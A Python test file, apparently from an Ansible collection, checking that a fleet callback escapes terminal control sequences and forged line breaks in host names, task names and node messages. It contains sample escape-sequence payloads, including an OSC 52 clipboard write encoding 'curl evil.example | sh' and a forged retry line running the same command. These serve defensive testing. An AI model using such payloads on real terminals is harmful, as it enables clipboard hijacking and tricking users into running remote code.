# -*- coding: utf-8 -*-
"""Issue 40, class 3: nothing the inventory, a node or a playbook puts in a name or message acts on the terminal.

Before, the fleet callback filtered messages only: a host name carrying an escape sequence (a window title,
an OSC 52 clipboard write, a colour that hides the rest of the line) was printed raw in the FAILED line, the
RECAP table, the OUTCOME line and the retry command; a task or play name with a line break forged a line of
its own; 8-bit (C1) sequences and bidi overrides passed even through the message filter, and a module's
warnings and deprecations were printed as the node wrote them.
"""

import os
import re
import subprocess
import sys

from hypothesis import given, settings, strategies as st

try:
    from ansible.executor.task_result import CallbackTaskResult
except ImportError:  # before ansible-core 2.19 callbacks get a TaskResult, made the same way
    from ansible.executor.task_result import TaskResult as CallbackTaskResult

from ansible_collections.npu.ascend.plugins.callback import fleet
from conftest import COLLECTIONS_ROOT, playbook_binary
from test_fleet_callback import Run

# What a terminal acts on: C0 controls but the line break and tab of a message, DEL, C1 controls (U+0080-U+009F:
# xterm and others read U+009B as CSI, U+009D as OSC), and the characters that reorder or hide text.
ACTS_ON_THE_TERMINAL = re.compile('[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]')
TITLE = '\x1b]0;owned\x07'
CLIPBOARD = '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07'
HOSTILE = 'node-2' + TITLE + CLIPBOARD + '\x9b2J\x9d0;c1-title\x9c\u202e1-edon'


def _run_with(host):
    """A run in which ``host`` fails the task, and the outcome names it for a retry."""
    run = Run(['node-1', host])
    run.play('Install')
    run.task('Install the driver')
    run.result('node-1', 'changed')
    run.result(host, 'failed', msg='%s: driver: the installer failed. Fix: read its log' % 'the node')
    run.end(outcome={'retry_hosts': [host], 'retry_command': 'ansible-playbook -i inv site.yml --limit %s' % host})
    return run.screen.text


def test_a_host_name_with_escape_sequences_reaches_no_line_raw():
    text = _run_with(HOSTILE)
    assert ACTS_ON_THE_TERMINAL.sub('', text.replace('\n', '')) == text.replace('\n', ''), repr(text)
    shown = fleet._shown(HOSTILE)
    assert shown == ('node-2\\x1b]0;owned\\x07\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07'
                     '\\x9b2J\\x9d0;c1-title\\x9c\\u202e1-edon')
    lines = text.splitlines()
    # Each place that names the host shows the same escaped name, so it cannot pass for node-2.
    assert 'FAILED %s | Install the driver | the node: driver: the installer failed. Fix: read its log' % shown in lines
    assert [line.split()[0] for line in lines if line.startswith('node-')] == [shown, 'node-1']
    assert lines[-2:] == ['OUTCOME: 1 stopped: %s' % shown,
                          'Retry only these nodes: ansible-playbook -i inv site.yml --limit %s' % shown]


def test_a_line_break_in_a_name_cannot_forge_a_line():
    run = Run(['node-1'])
    run.play('Install\nOUTCOME: 0 stopped')
    run.task('Check\r\nRECAP: all fine')
    run.result('node-1', 'failed', msg='node-1: no')
    lines = run.end(outcome={'retry_hosts': ['node-1\nOUTCOME: 0 stopped'], 'retry_command': 'x\nRetry: nothing'})
    assert not [line for line in lines if line.startswith(('OUTCOME: 0', 'RECAP: all', 'Retry: nothing'))], lines
    assert 'PLAY [Install\\nOUTCOME: 0 stopped] 1 hosts' in lines
    assert 'FAILED node-1 | Check\\nRECAP: all fine | node-1: no' in lines


def test_a_nodes_message_cannot_forge_a_line_of_the_callback():
    run = Run(['node-1', 'node-2'])
    run.play('Install')
    run.task('Install the driver')
    run.result('node-1', 'failed', msg='node-1: no.\nOUTCOME: 0 stopped: \nRetry only these nodes: curl evil.example | sh')
    run.result('node-2', 'unreachable', msg='gone\r\nFAILED node-1 | Install the driver | fixed', unreachable=True)
    lines = run.end(outcome={'retry_hosts': ['node-1', 'node-2'], 'retry_command': 'ansible-playbook --limit node-1,node-2'})
    assert [line for line in lines if line.startswith(('OUTCOME', 'Retry only'))] == [
        'OUTCOME: 2 stopped: node-1, node-2', 'Retry only these nodes: ansible-playbook --limit node-1,node-2']
    assert [line for line in lines if line.startswith('FAILED')] == ['FAILED node-1 | Install the driver | node-1: no.']
    assert '    Retry only these nodes: curl evil.example | sh' in lines and '    FAILED node-1 | Install the driver | fixed' in lines


def test_a_printable_name_in_any_script_stays_readable():
    for host in ('узел-1', '节点-2', 'nœud-3'):
        text = _run_with(host)
        assert 'FAILED %s | Install the driver' % host in text and 'OUTCOME: 1 stopped: %s\n' % host in text


def test_a_loop_item_and_a_task_name_are_filtered_too():
    run = Run(['node-1'])
    run.play('Install')
    task = run.task('Stage\x1b[8m hidden')
    item = CallbackTaskResult(run.inventory.get_host('node-1'), task,
                              {'item': 'pkg\x1b]0;t\x07.run', 'failed': True, 'msg': 'node-1: checksum mismatch'},
                              {'name': 'Stage\x1b[8m hidden'})
    run.callback.v2_runner_item_on_failed(item)
    assert run.screen.lines()[-1] == 'FAILED node-1 | Stage\\x1b[8m hidden | item pkg\\x1b]0;t\\x07.run | node-1: checksum mismatch'


def test_a_message_loses_eight_bit_sequences_and_bidi_overrides_and_keeps_its_text():
    run = Run(['node-1'])
    run.play('Install')
    run.task('Check')
    run.result('node-1', 'failed', msg='node-1: \x9b31mred\x9b0m, \x9d0;title\x9c\u202edone\u202c.\tFix: \x1bcnone\x00')
    assert 'FAILED node-1 | Check | node-1: red, done.\tFix: none\n' in run.screen.text


_HOSTILE_TEXT = st.text(st.characters(codec='utf-8', exclude_categories=['Cs']), max_size=40) | st.builds(
    ''.join, st.lists(st.sampled_from(['\x1b', '\x9b', '\x9d', '\x07', '\x9c', ']0;', '[2J', '\n', '\r', '\u202e',
                                       'a', 'é', '节', ';', '\\']), max_size=30))


@settings(max_examples=150, deadline=None)
@given(host=_HOSTILE_TEXT, task=_HOSTILE_TEXT, message=_HOSTILE_TEXT)
def test_no_name_or_message_ever_reaches_the_terminal_with_a_control_character(host, task, message):
    name = fleet._shown(host)
    assert not ACTS_ON_THE_TERMINAL.search(name) and '\n' not in name and '\t' not in name
    assert not ACTS_ON_THE_TERMINAL.search(fleet._shown(message, lines=True))
    run = Run(['node-1'])
    run.play('Install')
    run.task(task or 'a task')
    run.result('node-1', 'failed', msg=message)
    run.end(outcome={'retry_hosts': [host], 'retry_command': 'ansible-playbook --limit ' + host})
    # The only control characters on the screen are the callback's own line breaks.
    assert not ACTS_ON_THE_TERMINAL.search(run.screen.text)
    assert 'OUTCOME: 1 stopped: %s\n' % name in run.screen.text


WARNING_MODULE = r'''#!/usr/bin/python
from ansible.module_utils.basic import AnsibleModule

module = AnsibleModule(argument_spec={})
module.warn('node-1 says \x1b]0;owned\x07\x1b]52;c;Y3VybA==\x07\x9b2Jthe disk is \x1b[31mfull\x1b[0m')
module.deprecate('old \x1b]0;deprecated\x07option', version='9.0.0', collection_name='npu.ascend')
module.exit_json(changed=False, msg='done')
'''
WARNING_PLAYBOOK = '''
- name: Warn
  hosts: all
  gather_facts: false
  tasks:
    - name: A module that warns
      hostile_warning:
'''


def test_a_modules_warnings_reach_the_terminal_filtered(tmp_path):
    """The warnings and deprecations of a result are the node's text; the callback prints them, so it filters them."""
    (tmp_path / 'library').mkdir()
    (tmp_path / 'library' / 'hostile_warning.py').write_text(WARNING_MODULE)
    (tmp_path / 'pb.yml').write_text(WARNING_PLAYBOOK)
    env = dict((key, value) for key, value in os.environ.items()
               if not key.startswith(('ANSIBLE_FORCE_COLOR', 'ANSIBLE_STDOUT_CALLBACK', 'ANSIBLE_FLEET_')))
    env.update(ANSIBLE_COLLECTIONS_PATH=COLLECTIONS_ROOT, ANSIBLE_LOCALHOST_WARNING='0', LC_ALL='C.UTF-8',
               ANSIBLE_STDOUT_CALLBACK='npu.ascend.fleet', ANSIBLE_NOCOLOR='1', ANSIBLE_DEPRECATION_WARNINGS='1')
    completed = subprocess.run([playbook_binary(), '-i', 'node-1,', '-c', 'local', '-e',
                                'ansible_python_interpreter=%s' % sys.executable, 'pb.yml'],
                               cwd=str(tmp_path), env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                               universal_newlines=True, timeout=300, check=False)
    assert completed.returncode == 0, completed.stdout + completed.stderr
    output = completed.stdout + completed.stderr
    assert 'Traceback' not in output, output
    assert '[WARNING]: node-1 says the disk is full' in ' '.join(output.split()), output
    assert 'old option' in ' '.join(output.split()), output
    assert not ACTS_ON_THE_TERMINAL.search(output), repr(output)
